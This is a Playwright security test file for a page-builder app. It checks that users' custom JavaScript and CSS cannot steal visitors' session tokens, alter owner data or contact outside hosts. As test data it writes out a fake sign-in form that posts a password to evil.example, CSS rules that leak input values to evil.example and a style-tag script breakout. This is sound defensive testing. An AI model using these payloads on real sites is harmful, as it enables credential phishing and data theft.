import { readFileSync } from "node:fs";
import type { APIRequestContext, Page } from "@playwright/test";
import { expect, gotoHydrated, test } from "./fixtures.ts";
import { storeSession, setAppearance, createLinks, type Member, newMember } from "./member.ts";

const hostileCode = readFileSync(new URL("hostile-code.js", import.meta.url), "utf8").replace(/^\s*\/\/.*$/gm, "");
const ATTACKS_MS = 150_000;

/** The data that hostile code would try to change. */
async function readOwnerData(request: APIRequestContext, { token, id, halka }: Member): Promise<unknown> {
  const headers = { authorization: `Bearer ${token}` };
  return [
    await halka.listPageLinks(),
    await halka.getAppearance({ userId: id }),
    // this call alone needs a session token; the others use an API key
    await (await request.get(`/v1/settings/${id}`, { headers })).json(),
  ];
}

/** The app in another tab of the same browser, with a session, a cookie and a channel that broadcasts its token. */
async function openApp(page: Page, { email, password, token }: Member): Promise<Page> {
  const app = await page.context().newPage();
  await app.goto("/login");
  await app.evaluate(
    async ([user, secret]) => {
      const body = JSON.stringify({ user });
      await fetch("/users/login", { method: "POST", headers: { "content-type": "application/json" }, body });
      const channel = new BroadcastChannel("app");
      // oxlint-disable-next-line unicorn/require-post-message-target-origin -- a BroadcastChannel has no target origin
      setInterval(() => channel.postMessage(secret), 100);
    },
    [{ email, password }, token] as const,
  );
  return app;
}

/** Waits until the hostile code has made all its attempts, and returns what it obtained, by attack. */
async function readObtained(page: Pick<Page, "locator">): Promise<Record<string, string>> {
  const root = page.locator("html");
  await expect(root).toHaveAttribute("data-got", /.*/, { timeout: ATTACKS_MS });
  expect(Number(await root.getAttribute("data-attacks"))).toBeGreaterThan(40);
  return JSON.parse((await root.getAttribute("data-got"))!) as Record<string, string>;
}

function watchDialogs(page: Page): string[] {
  const seen: string[] = [];
  page.on("dialog", (dialog) => {
    seen.push(dialog.type());
    void dialog.dismiss();
  });
  page.on("download", (download) => seen.push(download.suggestedFilename()));
  return seen;
}

test("the hostile code obtains all this where nothing protects the application", async ({ page, request, baseURL }) => {
  test.setTimeout(ATTACKS_MS * 2);
  const member = await newMember(request);
  await storeSession(page, member);
  await openApp(page, member);
  const unprotected = `${baseURL}/${member.username}/unprotected`;
  const script = hostileCode.replaceAll("</script", "<\\/script");
  await page.route(unprotected, (route) =>
    route.fulfill({ contentType: "text/html", body: `<!doctype html><body><script>${script}</script>` }),
  );
  await page.goto(unprotected);
  const obtained = Object.entries(await readObtained(page));
  const withToken = obtained.filter(([, loot]) => loot.includes(member.token)).map(([attack]) => attack);
  expect(withToken).toEqual([
    "localStorage",
    "framing a script of ours",
    "an empty frame",
    "a srcdoc frame",
    "a blob as a frame",
    "opening nothing",
    "channels of the app",
  ]);
  expect(obtained.map(([attack]) => attack)).toEqual(
    expect.arrayContaining([
      "indexedDB",
      "caches",
      "a service worker",
      "fetching calls",
      "fetching screens",
      "XMLHttpRequest",
      "a worker from a blob",
      "the address of sign-in",
      "another base",
    ]),
  );
});

test("custom JavaScript on a page obtains nothing from a signed-in visitor or from the page's owner", async ({
  browser,
  baseURL,
  request,
}) => {
  test.setTimeout(ATTACKS_MS * 2);
  const [owner, viewer] = [await newMember(request), await newMember(request)];
  for (const member of [owner, viewer]) await createLinks(member, ["Shop"]);
  await setAppearance(viewer, {});
  await setAppearance(owner, { custom_js: hostileCode });

  for (const victim of [viewer, owner]) {
    const context = await browser.newContext({ baseURL: baseURL! });
    const tab = await context.newPage();
    await storeSession(tab, victim);
    const app = await openApp(tab, victim);
    const before = await readOwnerData(request, victim);
    const shown = watchDialogs(tab);
    await tab.goto(`/${owner.username}`);
    expect(await readObtained(tab)).toEqual({});
    expect(shown).toEqual([]);
    expect(await readOwnerData(request, victim)).toEqual(before);
    expect(await app.evaluate(() => localStorage.getItem("auth_token"))).toBe(victim.token);
    await expect(tab.getByRole("link", { name: "Shop" })).toBeVisible();
    await context.close();
  }
});

test("custom JavaScript in a draft obtains nothing from the editor", async ({ page, request }) => {
  test.setTimeout(ATTACKS_MS * 2);
  const owner = await newMember(request);
  await setAppearance(owner, {});
  await storeSession(page, owner);
  await openApp(page, owner);
  // hydration would remove what this test adds to the document
  await gotoHydrated(page, "/forgot-password");
  const before = await readOwnerData(request, owner);
  const shown = watchDialogs(page);
  const { html } = await owner.halka.previewPage({ custom_js: hostileCode, title: "A draft" });
  await page.evaluate((draft) => {
    const frame = document.createElement("iframe");
    frame.setAttribute("sandbox", "allow-scripts");
    frame.src = "/preview";
    addEventListener("message", ({ source, data }: MessageEvent<{ kind?: string }>) => {
      if (source === frame.contentWindow && data.kind === "halka-preview-ready")
        frame.contentWindow!.postMessage({ kind: "halka-preview", html: draft }, "*");
    });
    document.body.replaceChildren(frame);
  }, html);
  const shell = page.frameLocator("iframe");
  const draft = shell.frameLocator("iframe");
  await expect(draft.getByRole("heading", { name: "A draft" })).toBeVisible();
  expect(await readObtained(draft)).toEqual({});
  expect(shown).toEqual([]);
  expect(new URL(page.url()).pathname).toBe("/forgot-password");
  expect(await page.evaluate(() => localStorage.getItem("auth_token"))).toBe(owner.token);
  expect(await readOwnerData(request, owner)).toEqual(before);
});

test("custom JavaScript cannot put a path of the application into the address bar or post a form to another site", async ({
  page,
  request,
  baseURL,
}) => {
  const owner = await newMember(request);
  const fake = [
    "history.replaceState(null, '', '/login');",
    "document.title = 'Sign in';",
    "document.body.innerHTML = '<h1>Sign in</h1><form method=post action=https://evil.example/take><input name=password value=secret><button>Sign in</button></form>';",
    `try { history.replaceState(null, '', '${baseURL}/login'); document.title = 'taken'; } catch {}`,
  ].join("\n");
  await setAppearance(owner, { custom_js: fake });
  const posted: string[] = [];
  page.on("request", (each) => each.method() === "POST" && posted.push(new URL(each.url()).pathname));
  await page.goto(`/${owner.username}`);
  await expect(page).toHaveTitle("Sign in");
  const shown = new URL(page.url());
  expect([shown.hostname, shown.pathname]).toEqual(["pages.localhost", "/login"]);
  await page.getByRole("button", { name: "Sign in" }).click();
  for (const action of ["/users/login", "https://evil.example/take"])
    await page.evaluate((target) => {
      const form = document.querySelector("form")!;
      form.action = target;
      HTMLFormElement.prototype.submit.call(form);
    }, action);
  await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 0))));
  expect(posted.filter((path) => !path.startsWith("/v1/log/visit/"))).toEqual([]);
  expect((await page.reload())!.status()).toBe(404);
  await expect(page.getByLabel("Password")).toHaveCount(0);
});

test("recognises owners on their page with custom JavaScript, and leaves no trace of that in the URL", async ({
  page,
  request,
}) => {
  const owner = await newMember(request);
  await setAppearance(owner, { custom_js: "document.title = 'mine'" });
  await createLinks(owner, ["Shop"]);
  const { cookies } = await request.storageState();
  await page.context().addCookies(cookies);
  const reports = () => page.waitForRequest((each) => each.method() === "POST" && each.url().includes("/v1/"));
  const [visit] = await Promise.all([reports(), page.goto(`/${owner.username}`)]);
  await expect(page).toHaveTitle("mine");
  expect(new URL(page.url()).search).toBe("");
  const { own } = visit.postDataJSON() as { own?: string };
  expect(own).toContain(owner.id);
  expect(await page.locator('link[rel="canonical"]').getAttribute("href")).toBe(page.url());
});

test("custom CSS applies, but closes no element, runs no script and contacts no third party", async ({
  page,
  request,
}) => {
  const owner = await newMember(request);
  await setAppearance(owner, {
    custom_css: [
      "@import url(https://evil.example/a.css);",
      "@font-face{font-family:Evil;src:url(https://evil.example/f.woff2)}",
      "h1{color:rgb(1,2,3);font-family:Evil,serif}",
      `h2::before{content:"</style><script>document.documentElement.dataset.ran=1</script>"}`,
      "body{background:url(http://evil.example/a.png)}",
      "input[value^=a]{background:url(https://evil.example/leak?a)}",
    ].join("\n"),
  });
  const requests: string[] = [];
  page.on("request", (each) => each.method() === "GET" && requests.push(new URL(each.url()).host));
  const response = await page.goto(`/${owner.username}`);
  await expect(page.getByRole("heading", { level: 1 })).toHaveCSS("color", "rgb(1, 2, 3)");
  expect(await page.locator("html").getAttribute("data-ran")).toBeNull();
  expect(new Set(requests)).toEqual(new Set([new URL(page.url()).host]));
  expect(requests.length).toBeLessThanOrEqual(3);
  expect(response!.headers()["content-security-policy"]).not.toMatch(/sandbox|unsafe/);
});
